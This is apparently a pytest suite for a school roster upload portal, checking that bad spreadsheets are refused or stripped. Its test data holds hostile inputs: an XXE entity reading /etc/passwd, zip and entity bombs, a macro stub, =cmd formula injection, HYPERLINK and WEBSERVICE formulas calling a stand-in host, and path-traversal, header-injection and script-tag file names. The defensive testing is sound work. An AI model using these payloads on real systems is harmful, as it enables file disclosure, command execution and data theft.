"""Bad files through the real page: each is answered with what is wrong and the cure, and nothing of it is kept."""

from __future__ import annotations

from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from uuid import UUID

import pytest
import xlsxwriter
from flask import Flask
from openpyxl import load_workbook

from portal.models import Grade, Roster, RosterRow, RosterState, db
from tests.attacks.knocks import knock
from tests.attacks.order import counted, disorder
from tests.browser import Answer, Browser
from tests.cast import Cast
from tests.make import sheets

pytestmark = pytest.mark.once

LOCKED = Path(__file__).parents[1] / "spreadsheets" / "files"
HEADER = ("NIK", "Nama Lengkap", "L/P", "Tanggal Lahir", "Nama Ibu Kandung", "No HP", "Kelas")


def upload(browser: Browser, wave: UUID, content: bytes, name: str = "siswa.xlsx", **more: str) -> Answer:
    data = {"gelombang": str(wave), "file": (content, name), **more}
    return knock(browser, "/sekolah/daftar/", data, unmasked=True)


def line(student: sheets.Student, **other: str) -> list[str]:
    told = {
        "NIK": student.nik,
        "Nama Lengkap": student.name,
        "L/P": student.sex,
        "Tanggal Lahir": f"{student.born:%d/%m/%Y}",
        "Nama Ibu Kandung": student.mother,
        "No HP": student.phone,
        "Kelas": student.class_name,
    }
    return [({**told, **other})[title] for title in HEADER]


def rows_of(cast: Cast) -> list[RosterRow]:
    db.session.rollback()
    return list(db.session.scalars(cast.sari.actor().sees(RosterRow).order_by(RosterRow.roster_id, RosterRow.number)))


def with_macro() -> bytes:
    """A workbook that carries a (harmless) project of macros, as an .xlsm does."""
    made = BytesIO()
    people = sheets.roster(sheets.students(2))
    made.write(sheets.with_member(people, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0Sub Auto_Open()\nShell(1)\nEnd Sub"))
    return made.getvalue()


def blanks(megabytes: int) -> bytes:
    return b"NIK;Nama\r\n" + b";" * 7 + b" \r\n" * (megabytes * 350_000)


def refused_files() -> Iterator[tuple[str, bytes, str, str]]:
    """What it is, its bytes, the name it comes under, and the beginning of the sentence that a person reads."""
    good = sheets.roster(sheets.students(200))
    wide = [f"k{index}" for index in range(300)]
    yield "empty", b"", "kosong.xlsx", "Berkas ini kosong."
    yield "only white space", b" \r\n\t\r\n", "kosong.csv", "Berkas ini kosong."
    yield "only NUL bytes", b"\0" * 5_000, "siswa.csv", "Berkas ini kosong."
    yield "a workbook without a cell", sheets.xlsx([]), "kosong.xlsx", "Berkas ini kosong."
    yield "a header and nobody", sheets.xlsx([HEADER]), "judul.xlsx", "Judul kolomnya terbaca, tetapi tidak ada baris"
    yield "a PDF called xlsx", b"%PDF-1.7\n%...", "siswa.xlsx", "Isi berkas ini PDF, bukan lembar kerja."
    yield "a photograph called xlsx", b"\xff\xd8\xff\xe0....", "siswa.xlsx", "Isi berkas ini gambar"
    yield (
        "a letter called xlsx",
        sheets.zip_of({"word/document.xml": b"<w/>"}),
        "siswa.xlsx",
        "Isi berkas ini dokumen",
    )
    yield "a web page called xls", b"<html><table><tr><td>1", "siswa.xls", "Isi berkas ini halaman web"
    yield "an archive called xlsx", sheets.zip_of({"siswa.xlsx": good}), "siswa.xlsx", "Isi berkas ini arsip ZIP"
    yield "a program called csv", b"MZ\x90\0\x03" + bytes(range(256)) * 9, "siswa.csv", "Isi berkas ini berkas lain"
    for name in ("terkunci.xlsx", "terkunci.xls", "terkunci.ods"):
        yield f"locked {name}", (LOCKED / name).read_bytes(), name, "Berkas terkunci kata sandi."
    yield "a bomb", sheets.bomb(220), "bom.xlsx", "Isi berkas terlalu besar setelah dibuka."
    yield "an entity bomb", sheets.entity_bomb(), "bom.xlsx", "Berkas rusak atau terpotong."
    yield "a spy", spy(), "siswa.xlsx", "Berkas rusak atau terpotong."
    yield (
        "300 columns",
        sheets.xlsx([["NIK", "Nama", *wide], ["1", "A", *wide]]),
        "lebar.xlsx",
        "Lebih dari 200 kolom.",
    )
    yield (
        "300 columns of text",
        (";".join(["NIK", "Nama", *wide]) + "\n").encode(),
        "lebar.csv",
        "Lebih dari 200 kolom.",
    )
    yield "broken XML", sheets.with_member(good, sheets.SHEET_XML, b"<worksheet><row"), "rusak.xlsx", "Berkas "
    yield "cut in the middle", good[: len(good) // 2], "putus.xlsx", "Berkas rusak atau terpotong."
    yield "pictures only", sheets.pictures_only(), "foto.xlsx", "Berkas hanya berisi gambar."
    yield "a letter", b"Yth. Bapak dan Ibu\nBesok ada rapat\n", "surat.csv", "Tidak ada tabel di berkas ini."
    yield "a cell at the end of the world", far_away(), "jauh.xlsx", "Lembar terlalu besar"


def spy() -> bytes:
    """A sheet that would read a file of the server into a cell."""
    prologue = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    data = '<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'
    return sheets.with_member(sheets.xlsx([["NIK", "Nama"]]), sheets.SHEET_XML, sheets.sheet_xml(data, prologue))


def far_away() -> bytes:
    made = BytesIO()
    book = xlsxwriter.Workbook(made)
    page = book.add_worksheet()
    page.write_row(0, 0, ["NIK", "Nama"])
    page.write(1_048_575, 16_383, "x")
    book.close()
    return made.getvalue()


def test_each_bad_file_gets_its_sentence_and_keeps_nothing(sari: Browser, wave: UUID) -> None:
    before, wrong = counted(), []
    for what, content, name, sentence in refused_files():
        answer = upload(sari, wave, content, name)
        if answer.status != 422:
            wrong.append(f"{what}: {answer.status}, not 422")
        elif sentence not in answer.words:
            alert = answer.soup.find(role="alert")
            wrong.append(f"{what}: says {alert.get_text(' ', strip=True) if alert else answer.words[:200]!r}")
        if counted() != before:
            wrong.append(f"{what}: something was kept")
            before = counted()
    assert not wrong, "\n".join(wrong)
    assert sari.get(f"/sekolah/daftar/baru?gelombang={wave}").status == 200


def test_a_list_above_twenty_megabytes_of_blanks_is_read_for_what_is_in_it(
    sari: Browser, cast: Cast, wave: UUID, worker
) -> None:
    """Sheets whose shading goes down to the last row; and megabytes of empty lines."""
    done = upload(sari, wave, sheets.styled_blanks(20_000), "arsir.xlsx")
    assert done.status == 303
    assert len(rows_of(cast)) == 1
    big = blanks(19)
    assert len(big) > 19_000_000
    answer = upload(sari, wave, big, "kosong.csv")
    assert answer.status == 303, "too long to wait for: a job reads it"
    worker.drain()
    page = sari.follow(answer)
    assert "Berkas ini tidak dapat dibaca" in page.words
    assert "Lebih dari 120.000 baris. Bagi menjadi beberapa berkas." in page.words
    assert len(rows_of(cast)) == 1


def test_more_than_the_limit_is_said_with_the_cure(sari: Browser, wave: UUID) -> None:
    before = counted()
    answer = upload(sari, wave, b"N" * (21 << 20), "besar.csv")
    assert answer.status == 413
    assert "melebihi batas. Tidak ada yang disimpan" in answer.words
    assert "bagi berkas menjadi beberapa bagian" in answer.words
    answer = upload(sari, wave, b"NIK;Nama\n" + b"N" * (20 << 20), "besar.csv")
    assert answer.status == 422
    assert "Berkas lebih dari 20 MB" in answer.words
    pasted = {"gelombang": str(wave), "text": "N" * (5 << 20), "file": (b"", "")}
    assert knock(sari, "/sekolah/daftar/", pasted).status == 413
    pairs = b"&a" * (1 << 20), "application/x-www-form-urlencoded"
    assert knock(sari, "/sekolah/daftar/", body=pairs).status == 413, "a million pairs are not even parsed"
    assert counted() == before


def test_formulas_and_macros_are_neither_run_nor_kept(sari: Browser, cast: Cast, wave: UUID) -> None:
    made = BytesIO()
    book = xlsxwriter.Workbook(made)
    page = book.add_worksheet()
    first, second = sheets.students(2)
    page.write_row(0, 0, HEADER)
    page.write_row(1, 0, line(first))
    page.write_row(2, 0, line(second))
    page.write_formula(2, 1, '=HYPERLINK("http://jahat.example/?"&A2,"Klik")', value="Dewi Sartika")
    page.write_formula(2, 6, '=WEBSERVICE("http://jahat.example")', value="XII RPL 9")
    book.close()
    assert upload(sari, wave, made.getvalue(), "rumus.xlsx").status == 303
    rows = rows_of(cast)
    assert [row.content["values"]["name"] for row in rows] == [first.name, "Dewi Sartika"], (
        "the value, as Excel shows"
    )
    assert "jahat" not in str([row.content for row in rows])
    assert upload(sari, wave, with_macro(), "makro.xlsm").status == 303
    assert len(rows_of(cast)) == 4
    assert "Shell" not in str([row.content for row in rows_of(cast)])


def test_cells_that_would_be_commands_are_text_in_every_file_that_leaves(
    app: Flask, sari: Browser, cast: Cast, wave: UUID
) -> None:
    """Each way a spreadsheet program can be made to run something, in the cells of a list that goes back."""
    evil = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "=1+1",
        "＝1",
        '=HYPERLINK("x")',
        "%0A=1",
    ]
    people = sheets.students(len(evil))
    content = sheets.xlsx([HEADER, *(line(each, **{"Nama Lengkap": bad, "Kelas": bad, "NIK": "1"})
                                     for each, bad in zip(people, evil, strict=True))])  # fmt: skip
    done = upload(sari, wave, content, "=cmd.xlsx")
    roster = UUID(done.location.rsplit("/", 1)[1])
    assert {row.grade for row in rows_of(cast)} == {Grade.FAULTY}
    back = sari.post(f"/sekolah/daftar/{roster}/salah.xlsx", status=200)
    book = load_workbook(BytesIO(back.body))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert any(str(cell.value).startswith("=cmd") for cell in cells)
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}, "no cell is a formula"
    assert not any(cell.hyperlink for cell in cells)
    page = sari.get(f"/sekolah/daftar/{roster}?saring=salah", unmasked=True)
    assert "=cmd|" in page.words


def test_strange_but_honest_names_are_names(sari: Browser, cast: Cast, wave: UUID) -> None:
    names = [
        "Suharti",
        "Rizky O'Brien",
        "Nur ’Aini",
        "D’Angelo Sitohang",
        "I Gusti Ngurah-Rai",
        "Žofie Müller",
        "M. Ali",
    ]
    people = list(sheets.students(len(names)))
    content = sheets.xlsx(
        [HEADER, *(line(each, **{"Nama Lengkap": name}) for each, name in zip(people, names, strict=True))]
    )
    upload(sari, wave, content, "nama.xlsx")
    rows = rows_of(cast)
    assert {row.grade for row in rows} <= {Grade.READY, Grade.WARNED}, [row.content["faults"] for row in rows]
    page = sari.get(f"/sekolah/daftar/{rows[0].roster_id}?saring=siap")
    for name in ("Suharti", "O'Brien", "D’Angelo"):
        assert name in page.words


def test_marks_that_nobody_sees_are_told_or_taken_away(sari: Browser, cast: Cast, wave: UUID) -> None:
    """Right-to-left marks turn what is read around; NUL ends texts elsewhere; an emoji is no name of the KK."""
    odd = {
        "Siti\u202egnat\u202c Aminah": None,
        "\u200fBudi\u200f Santoso": "Budi Santoso",
        "Dewi\0 Lestari": "Dewi Lestari",
        "\ufeffAgus Salim": "Agus Salim",
        "Ayu\u200b\u2060 Lestari": "Ayu Lestari",
        "Rina 🌸 Marlina": None,
        "👩‍👩‍👧": None,
    }
    people = sheets.students(len(odd))
    text = "\n".join(["\t".join(HEADER), *("\t".join(line(each, **{"Nama Lengkap": name}))
                                           for each, name in zip(people, odd, strict=True))])  # fmt: skip
    done = upload(sari, wave, text.encode(), "tanda.tsv")
    assert done.status == 303
    rows = rows_of(cast)
    for row, (typed, clean) in zip(rows, odd.items(), strict=True):
        held = row.content["values"].get("name")
        assert held is None or not set("\u202e\u200f\0\u200b\u2060\ufeff") & set(held), (
            f"{typed!r} is kept as {held!r}"
        )
        if clean is not None:
            assert held == clean
        elif "\u202e" not in typed:
            told = {fault["c"] for fault in row.content["faults"]}
            assert told & {"name.characters", "name.short", "name.empty"}, f"{typed!r} passes as a name: {told}"
    page = sari.get(f"/sekolah/daftar/{rows[0].roster_id}?saring=salah")
    assert "\u202e" not in page.text
    assert not disorder()


def test_a_file_name_is_a_text_and_no_path(sari: Browser, cast: Cast, wave: UUID) -> None:
    names = {
        "../../../etc/passwd.csv": "passwd.csv",
        "C:\\Users\\sari\\siswa.csv": None,
        'a"; filename="b.csv': None,
        "satu\r\nSet-Cookie: jahat=1.csv": None,
        "x" * 5_000 + ".csv": None,
        "<script>alert(1)</script>.csv": None,
        "\u202evsc.siswa.csv": None,
        "{{7*7}}.csv": "{{7*7}}.csv",
        "3273014401080001 Siti.csv": "3273••••••••0001 Siti.csv",
        "nul\0.csv": None,
        ".csv": None,
    }
    for at, (name, title) in enumerate(names.items()):
        content = sheets.roster(sheets.students(1, first=at))
        done = upload(sari, wave, content, name)
        if done.status in {400, 422}:  # a name that ends its own header is no form any more
            assert set(name) & set('\r\n"'), name
            continue
        assert done.status == 303, name
        assert "Set-Cookie: jahat" not in str(done.headers)
        roster = cast.sari.actor().find(Roster, UUID(done.location.rsplit("/", 1)[1]))
        assert roster.state is RosterState.OPEN
        assert len(roster.title) <= 200
        assert not set(roster.title) & set("\r\n\0\u202e/\\"), roster.title
        if title:
            assert roster.title == title
        page = sari.follow(done)
        assert "alert(1)</script>" not in page.text
        db.session.rollback()
    sari.get("/sekolah/daftar/")
